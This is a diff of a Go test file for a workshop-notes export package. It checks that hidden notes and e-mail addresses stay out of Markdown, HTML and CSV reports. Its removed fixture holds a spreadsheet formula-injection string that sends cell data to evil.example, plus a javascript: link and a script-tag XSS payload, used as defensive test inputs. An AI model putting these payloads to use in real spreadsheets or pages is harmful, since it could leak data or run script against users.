@@ -3,10 +3,7 @@ package harvest
 import (
 	"bytes"
 	"encoding/csv"
-	"encoding/json"
 	"errors"
-	"flag"
-	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -15,130 +12,6 @@ import (
 
 	"nappe/internal/workshop"
 )
-
-var update = flag.Bool("update", false, "rewrite the golden files in testdata/golden")
-
-// Ids and times are fixed so the golden files change only when the exports do.
-func fixedID(n int) string { return fmt.Sprintf("00000000-0000-4000-8000-%012d", n) }
-
-func token(n int) string { return strings.Repeat(string(rune('a'+n)), workshop.TokenLength) }
-
-// t0 is 4 October 2018, 08:00 UTC, in Unix milliseconds like the log.
-const t0 = 1538640000000
-
-// café records a workshop through the domain, as the server would.
-type café struct {
-	t   *testing.T
-	s   *workshop.State
-	now int64
-	cmd int
-}
-
-func (c *café) apply(cmd string, bodies []workshop.Body, err error) {
-	c.t.Helper()
-	if err != nil {
-		c.t.Fatal(err)
-	}
-	for _, b := range bodies {
-		if err := c.s.Apply(workshop.Event{V: c.s.Version + 1, At: c.now, Cmd: cmd, Body: b}); err != nil {
-			c.t.Fatal(err)
-		}
-	}
-	c.now += 60_000
-}
-
-func (c *café) do(a workshop.Actor, typ string, data any) {
-	c.t.Helper()
-	raw, err := json.Marshal(data)
-	if err != nil {
-		c.t.Fatal(err)
-	}
-	c.cmd++
-	cmd := workshop.Command{ID: fixedID(9000 + c.cmd), Type: typ, Data: raw}
-	bodies, err := workshop.Decide(c.s, a, cmd, c.now)
-	c.apply(cmd.ID, bodies, err)
-}
-
-func (c *café) join(n int, name, org, email, table string) workshop.Actor {
-	c.t.Helper()
-	bodies, err := workshop.DecideJoin(c.s, workshop.JoinArgs{ID: fixedID(100 + n), TokenHash: workshop.HashToken(token(2 + n)),
-		Name: name, Organisation: org, Email: email, Table: table}, c.now)
-	c.apply(fixedID(100+n), bodies, err)
-	return workshop.Actor{Role: workshop.RoleParticipant, Participant: fixedID(100 + n)}
-}
-
-func (c *café) post(a workshop.Actor, note int, table, text string, anonymous bool) {
-	c.t.Helper()
-	c.do(a, "note.post", map[string]any{"note": fixedID(note), "table": table, "text": text, "anonymous": anonymous})
-}
-
-func (c *café) vote(a workshop.Actor, note int) {
-	c.t.Helper()
-	c.do(a, "vote.toggle", map[string]any{"note": fixedID(note)})
-}
-
-// The texts tests look for.
-const (
-	hiddenText  = "Note cachée : propos déplacé"
-	formulaText = `=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")`
-	emailEmilie = "emilie.durand@ouishare.net"
-	emailAlexis = "a.sarrut@fest.fr"
-)
-
-// recorded is a morning of the Café des innovations sociales numériques: three ateliers, six
-// people, notes with accents, emoji, a line break, an anonymous one, a hidden one, an edited one,
-// one that tries to be a formula and one that tries to be Markdown, and votes.
-func recorded(t *testing.T) *workshop.State {
-	t.Helper()
-	c := &café{t: t, s: workshop.New(), now: t0}
-	t1, t2, t3 := fixedID(10), fixedID(11), fixedID(12)
-	bodies, err := workshop.DecideCreate(c.s, workshop.CreateArgs{
-		ID: fixedID(1), Code: "ISN2018", Language: "fr", AllowAnonymous: true,
-		Title:              "Le café des innovations sociales numériques",
-		Subtitle:           "De l'impact social à la transformation sociale. Quel rôle pour les innovations sociales numériques ?",
-		Date:               "2018-10-04",
-		Venue:              "Institut Mines-Télécom Business School, Évry",
-		FacilitatorKeyHash: workshop.HashToken(token(0)), BoardKeyHash: workshop.HashToken(token(1)),
-		Tables: []workshop.Table{
-			{ID: t1, Name: "Les pratiques numériques", Question: "Comment le numérique peut-il servir l'intérêt général ?"},
-			{ID: t2, Name: "Financement & modèles économiques", Question: "Quels modèles économiques pour les ISN ?\nEt quels financeurs ?"},
-			{ID: t3, Name: "Gouvernance", Question: "Qui décide, et comment ?"},
-		},
-	}, c.now)
-	c.apply("create", bodies, err)
-	fac := workshop.Actor{Role: workshop.RoleFacilitator}
-
-	emilie := c.join(0, "Émilie Durand", "Ouishare", emailEmilie, t1)
-	lionel := c.join(1, "Lionel Bouzonville", "Politizr", "lionel@politizr.example", t1)
-	claire := c.join(2, "Claire Duizabo", "Entourage", "", t1)
-	zoe := c.join(3, "Zoé Martin", "", "", t1)
-	alexis := c.join(4, "Alexis Sarrut", "France Eco Sociale Tech", emailAlexis, t2)
-	nadia := c.join(5, "Nadia Tiourtite", "Cmarue", "", t2)
-
-	c.post(emilie, 20, t1, "Ouvrir les données publiques 🌍", false)
-	c.post(lionel, 21, t1, "Former les bénévoles\naux outils numériques", false)
-	c.post(claire, 22, t1, "Le numérique exclut aussi : 13 millions de Français éloignés", true)
-	c.post(zoe, 23, t1, formulaText, false)
-	c.post(lionel, 24, t1, hiddenText, false)
-	for _, v := range []workshop.Actor{emilie, claire, zoe} {
-		c.vote(v, 24) // the most votes at the table, yet hidden: no export may show it
-	}
-	c.do(fac, "note.hide", map[string]any{"note": fixedID(24)})
-	c.post(fac, 25, t1, "# Synthèse [voir](javascript:alert(1)) <script>alert(1)</script>", false)
-	c.do(emilie, "note.edit", map[string]any{"note": fixedID(20), "text": "Ouvrir les données publiques 🌍 et les algorithmes"})
-	c.post(alexis, 30, t2, "Mécénat de compétences | crowdfunding", false)
-	c.post(nadia, 31, t2, "-10 % de subventions en 2019 ? 😬", false)
-
-	for _, v := range []workshop.Actor{lionel, claire, zoe} {
-		c.vote(v, 20)
-	}
-	c.vote(emilie, 21)
-	c.vote(claire, 21)
-	c.vote(emilie, 22)
-	c.vote(lionel, 23)
-	c.vote(nadia, 30)
-	return c.s
-}
 
 func golden(t *testing.T, name string, got []byte) {
 	t.Helper()
@@ -179,6 +52,8 @@ func TestGolden(t *testing.T) {
 	}{
 		{"report_fr.md", markdown, Options{Language: "fr"}},
 		{"report_en_emails.md", markdown, Options{Language: "en", WithEmails: true}},
+		{"report_fr.html", htmlNormalised, Options{Language: "fr"}},
+		{"report_en_emails.html", htmlNormalised, Options{Language: "en", WithEmails: true}},
 		{"notes_fr.csv", notesCSV, Options{Language: "fr"}},
 		{"notes_en.csv", notesCSV, Options{Language: "en"}},
 	} {
@@ -189,16 +64,41 @@ func TestGolden(t *testing.T) {
 func TestHiddenNoteNeverExported(t *testing.T) {
 	s := recorded(t)
 	for _, o := range []Options{{Language: "fr"}, {Language: "en", WithEmails: true, TopNotes: 100}} {
-		for name, f := range map[string]func(*bytes.Buffer, *workshop.State, Options) error{"markdown": markdown, "csv": notesCSV} {
-			if out := render(t, f, s, o); bytes.Contains(out, []byte("propos déplacé")) {
-				t.Errorf("%s %+v shows the hidden note", name, o)
+		for name, f := range map[string]func(*bytes.Buffer, *workshop.State, Options) error{"markdown": markdown, "csv": notesCSV, "html": htmlReport} {
+			out := render(t, f, s, o)
+			if bytes.Contains(out, []byte("propos déplacé")) || bytes.Contains(out, []byte(hiddenText2)) {
+				t.Errorf("%s %+v shows a hidden note", name, o)
 			}
 		}
+	}
+	// The charts count visible notes only: 20 posted, 2 hidden.
+	f, _ := NewFigures(s, Options{})
+	if total := f.contrib.rows[0].total + f.contrib.rows[1].total + f.contrib.rows[2].total; total != 18 {
+		t.Errorf("contributions count %d notes, want the 18 visible", total)
+	}
+	sum := 0
+	for _, n := range f.activity.counts {
+		sum += n
+	}
+	if sum != 18 {
+		t.Errorf("activity counts %d notes, want the 18 visible", sum)
 	}
 }
 
 func TestEmails(t *testing.T) {
 	s := recorded(t)
+	for _, f := range []func(*bytes.Buffer, *workshop.State, Options) error{markdown, htmlReport} {
+		without := string(render(t, f, s, Options{Language: "fr"}))
+		with := string(render(t, f, s, Options{Language: "fr", WithEmails: true}))
+		if strings.Contains(without, "@") && strings.Contains(without, emailNicole) {
+			t.Errorf("report without e-mails holds an address")
+		}
+		for _, e := range []string{emailEmilie, emailAlexis, emailNicole} {
+			if strings.Contains(without, e) || !strings.Contains(with, e) {
+				t.Errorf("%s should appear only with WithEmails", e)
+			}
+		}
+	}
 	without := string(render(t, markdown, s, Options{Language: "fr"}))
 	with := string(render(t, markdown, s, Options{Language: "fr", WithEmails: true}))
 	if strings.Contains(without, "@") {
@@ -223,7 +123,7 @@ func TestEmails(t *testing.T) {
 }
 
 func TestCSVOpensInSpreadsheets(t *testing.T) {
-	s := recorded(t)
+	s := morning(t)
 	for _, c := range []struct {
 		lang  string
 		comma rune
@@ -256,7 +156,7 @@ func TestCSVOpensInSpreadsheets(t *testing.T) {
 			}
 		}
 		for _, row := range rows[1:] {
-			if strings.Contains(row[5], "13 millions") && (row[3] != labels[c.lang].anonymous || row[4] != "") {
+			if strings.Contains(row[5], "13 millions") && (row[3] != labels[c.lang].Anonymous || row[4] != "") {
 				t.Errorf("%s: anonymous note credited: %q", c.lang, row)
 			}
 		}
@@ -326,20 +226,20 @@ func TestLineBreaksStayInside(t *testing.T) {
 }
 
 func TestRoundsAndTopNotes(t *testing.T) {
-	s := recorded(t)
+	s := morning(t)
 	md := string(render(t, markdown, s, Options{Language: "en"}))
-	if strings.Contains(md, "Round") || !strings.Contains(md, "### Notes") {
+	if strings.Contains(md, "### Round") || strings.Contains(md, "### Before") || !strings.Contains(md, "### Notes") {
 		t.Errorf("before the rounds, notes should not be grouped by round:\n%s", md)
 	}
 	s.Notes[fixedID(21)].Round = 1
 	s.Notes[fixedID(31)].Round = 2
 	md = string(render(t, markdown, s, Options{Language: "fr"}))
-	for _, want := range []string{"### Tour 0", "### Tour 1", "### Tour 2"} {
+	for _, want := range []string{"### Avant le premier tour", "### Tour 1", "### Tour 2"} {
 		if !strings.Contains(md, want) {
 			t.Errorf("no %q:\n%s", want, md)
 		}
 	}
-	if strings.Index(md, "### Tour 0") > strings.Index(md, "### Tour 1") {
+	if strings.Index(md, "### Avant le premier tour") > strings.Index(md, "### Tour 1") {
 		t.Error("rounds out of order")
 	}
 	if md := string(render(t, markdown, s, Options{Language: "fr", TopNotes: -1})); strings.Contains(md, "soutenus") {
